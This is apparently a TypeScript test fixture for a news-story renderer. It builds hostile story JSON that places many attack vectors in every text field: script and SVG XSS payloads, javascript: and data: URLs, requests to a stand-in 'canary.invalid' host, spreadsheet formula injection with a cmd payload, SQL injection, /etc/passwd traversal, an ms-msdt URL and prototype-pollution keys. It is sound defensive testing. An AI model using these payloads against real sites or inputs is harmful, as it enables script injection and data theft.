/**
 * Stories of a sender who means harm. Every vector calls `__xss`, asks for the canary host, tries to
 * leave the page, or tries to break what is drawn; each stands in every text field of one story.
 */

export const CANARY = 'canary.invalid'

const RUN = '__xss()'
const AWAY = `https://${CANARY}`

const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<ScRiPt src="${AWAY}/a.js"></ScRiPt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}/pixel.png">`,
  `<img srcset="${AWAY}/set.png 1x" sizes="1px">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"></use></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${AWAY}/frame"></iframe>`,
  `<object data="${AWAY}/object"></object>`,
  `<embed src="${AWAY}/embed">`,
  `<link rel="stylesheet" href="${AWAY}/a.css">`,
  `<link rel="preload" as="image" href="${AWAY}/pre.png">`,
  `<style>@import "${AWAY}/b.css"; * { background: url(${AWAY}/c.png) }</style>`,
  `<p style="background: url(${AWAY}/d.png); position: fixed; inset: 0">x</p>`,
  `<meta http-equiv="refresh" content="0; url=${AWAY}/">`,
  `<base href="${AWAY}/">`,
  `<form action="${AWAY}/form"><input name="password"><button autofocus onfocus="${RUN}">x</form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video src="${AWAY}/v.mp4" onerror="${RUN}" autoplay></video>`,
  `<audio src="${AWAY}/a.ogg" autoplay></audio>`,
  `<video poster="${AWAY}/poster.png"></video>`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="${AWAY}/" target="_top" ping="${AWAY}/ping">x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<?xml-stylesheet href="${AWAY}/x.xsl"?>`,
  `<div id="page" class="app" name="location">clobber</div>`,
  `<img name="getElementById"><form id="client"></form>`,
  `"><img src=x onerror="${RUN}">`,
  `' autofocus onfocus='${RUN}`,
  `" style="background: url(${AWAY}/e.png)" x="`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `{@html '<img src=x onerror=${RUN}>'}`,
  `{${RUN}} \${${RUN}} {{constructor.constructor('${RUN}')()}} <%= ${RUN} %>`,
  `[x](javascript:${RUN}) ![x](${AWAY}/md.png)`,
]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `vbscript:${RUN}`,
  'file:///etc/passwd',
  'blob:https://canary.invalid/1',
  'ftp://canary.invalid/x',
  'ms-msdt:/id PCWDiagnostic',
  'smb://canary.invalid/share',
  `//${CANARY}/x`,
  `https://trusted.example@${CANARY}/`,
  `https://user:secret@${CANARY}/`,
  `https://${CANARY}\\@trusted.example/`,
  `https://xn--80ak6aa92e.invalid/`,
  `https://${CANARY}/"><script>${RUN}</script>`,
  'http://[::1]:99999/',
  'https://',
]

const SHAPES = [
  '\u202Egnp.exe\u202C',
  '\u2067\u2066\u2068 never closed',
  '\u202A\u202B\u202D'.repeat(40),
  '\u200F\u061Cשלום <b>عربي</b>',
  `Z${'\u0301'.repeat(5000)}algo`,
  '\uD83D lone high',
  '\uDE00 lone low',
  'null \u0000 bell \u0007 escape \u001B[31m',
  '\uFEFF\u200B\u2060\u00AD invisible',
  '\uFDFD'.repeat(300),
  'unbroken'.repeat(2000),
  '👩‍👩‍👧‍👦'.repeat(300),
  '\u2028\u2029\u0085 lines',
  ' '.repeat(5000),
  '=HYPERLINK("https://canary.invalid","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '%s%n%x %00 ../../etc/passwd',
  "' OR 1=1; DROP TABLE story; --",
  '" AND entities:{{ unclosed (((',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'undefined',
  'NaN',
]

export const VECTORS: readonly string[] = [...MARKUP, ...ADDRESSES, ...SHAPES]

/** One line of story JSON per vector, in the order of `VECTORS`, the first the newest. */
export function hostileLines(): string[] {
  const newest = Date.now() - 60_000
  return VECTORS.map((vector, place) => storyLine(vector, place, newest - place * 60_000))
}

function storyLine(vector: string, place: number, publishedMs: number): string {
  const sentiment = { polarity: 'negative', confidence: 0.9 }
  // One place in the text where the name really stands, one far outside, one turned round.
  const mentions = [
    { index: { start: 0, end: [...vector].length }, sentiment },
    { index: { start: 3, end: 1_000_000_000 }, sentiment },
    { index: { start: 9, end: 2 }, sentiment },
  ]
  const named = { sentiment, surface_forms: [{ text: vector, frequency: 3, mentions }] }
  return JSON.stringify({
    id: 8_000_000_000 + place,
    title: vector,
    body: `${vector} then\n\n${vector} again.\n\nThe end of hostile ${place}.`,
    summary: { sentences: [vector, vector] },
    language: place % 3 === 0 ? 'en' : vector.slice(0, 40),
    published_at: new Date(publishedMs).toISOString().replace(/\.\d+Z$/, 'Z'),
    source: {
      id: vector.slice(0, 60),
      name: vector,
      domain: vector,
      home_page_url: vector,
      title: vector,
      description: vector,
      logo_url: `${AWAY}/logo.png`,
      locations: [{ country: vector, state: vector, city: vector }],
      scopes: [{ country: vector, level: vector }],
    },
    author: { id: vector.slice(0, 60), name: vector },
    entities: [
      {
        id: vector.slice(0, 60) || 'empty',
        links: { wikipedia: vector, wikidata: vector },
        stock_tickers: [vector],
        types: [vector, '__proto__', 'constructor'],
        overall_sentiment: sentiment,
        overall_prominence: 0.9,
        overall_frequency: 3,
        title: named,
        body: named,
      },
      {
        id: '__proto__',
        types: ['Organization'],
        overall_prominence: 0.5,
        overall_frequency: 1,
        body: { surface_forms: [{ text: '__proto__', frequency: 1, mentions: [] }] },
        title: { surface_forms: [] },
      },
    ],
    keywords: [vector, '__proto__'],
    hashtags: [vector],
    categories: [
      { id: vector, label: vector, score: 0.9, taxonomy: vector, links: { parents: [vector] } },
    ],
    industries: [{ id: vector, label: vector, score: 0.9 }],
    media: [{ type: 'image', url: `${AWAY}/media.png`, format: vector }],
    sentiment: {
      title: { polarity: 'negative', score: 0.9 },
      body: { polarity: 'positive', score: 0.9 },
    },
    links: { permalink: vector, canonical: vector },
    translations: { en: { title: vector, body: vector } },
  })
}
